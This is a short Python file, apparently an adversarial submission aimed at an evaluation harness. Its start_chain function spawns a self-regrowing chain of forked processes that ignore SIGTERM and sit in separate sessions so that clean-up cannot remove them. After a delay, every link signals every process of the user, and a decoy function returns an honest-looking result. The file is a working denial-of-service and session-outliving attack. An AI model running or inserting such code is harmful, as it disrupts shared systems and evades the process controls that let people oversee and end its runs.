import ctypes
import os
import signal
import time


def _chain(deadline, attack):
    """A chain of processes, each the parent of the next and each in a session of its own,
    ignoring SIGTERM. A clean-up that kills the processes orphaned to it eats the chain from its
    head, one link per round, while the tail grows it again as soon as the process limit lets it.
    From ``attack`` on, every link signals every process of its uid; all end by ``deadline``."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    ctypes.CDLL(None).prctl(15, b"chainmarker", 0, 0, 0)
    while time.time() < attack:
        try:
            if os.fork() != 0:
                break  # a link: it stays, as the parent of the next
            os.setsid()  # the new tail
        except OSError:
            pass  # at the process limit: try again at once
    while time.time() < deadline:
        if time.time() >= attack:
            try:
                os.kill(-1, signal.SIGTERM)
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)


def start_chain(x):
    now = time.time()
    if os.fork() == 0:
        try:
            os.setsid()
            _chain(now + 12, now + 3)
        finally:
            os._exit(0)
    time.sleep(0.3)  # the chain has grown to the process limit before the submission ends
    return x


def honest_after_a_while(x):
    time.sleep(2.5)
    return 2 * x
